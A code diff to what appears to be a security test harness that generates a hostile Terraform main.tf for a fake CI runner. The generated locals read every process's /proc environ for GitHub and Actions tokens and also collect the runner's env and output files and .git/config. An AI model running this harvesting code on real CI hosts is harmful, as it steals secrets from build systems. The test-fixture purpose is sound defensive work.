@@ -148,7 +148,8 @@ function attackStack(variant: Variant, r: FakeRunner): Record<string, string> {
     'main.tf': `locals {
   self_stat = try(file("/proc/self/stat"), "")
   ppid      = try(regex("^[0-9]+ \\\\(.*\\\\) [A-Za-z] ([0-9]+)", local.self_stat)[0], "0")
-  environs  = try(fileset("/proc", "*/environ"), [])
+  # Every branch of try() has one type (string): a set and an empty tuple would not unify.
+  environs  = split(",", try(join(",", fileset("/proc", "*/environ")), ""))
   # What every process on the host would give away; only these entries, to keep the output small.
   wanted = "(?:ACTIONS_[A-Z_]+|GITHUB_[A-Z_]+|GH_TOKEN|RUNNER_[A-Z_]+)=[^\\\\x00]*"
   loot = {
@@ -158,7 +159,7 @@ function attackStack(variant: Variant, r: FakeRunner): Record<string, string> {
     all_environ    = join("|", [for f in local.environs : try(join("|", regexall(local.wanted, file("/proc/\${f}"))), "")])
     github_env     = try(file("${r.files.env}"), "")
     github_output  = try(file("${r.files.output}"), "")
-    file_commands  = join(",", try(fileset("${commands}", "*"), []))
+    file_commands  = try(join(",", fileset("${commands}", "*")), "")
     git_config     = try(file("${join(sb.root, '.git', 'config')}"), "")
   }
 }
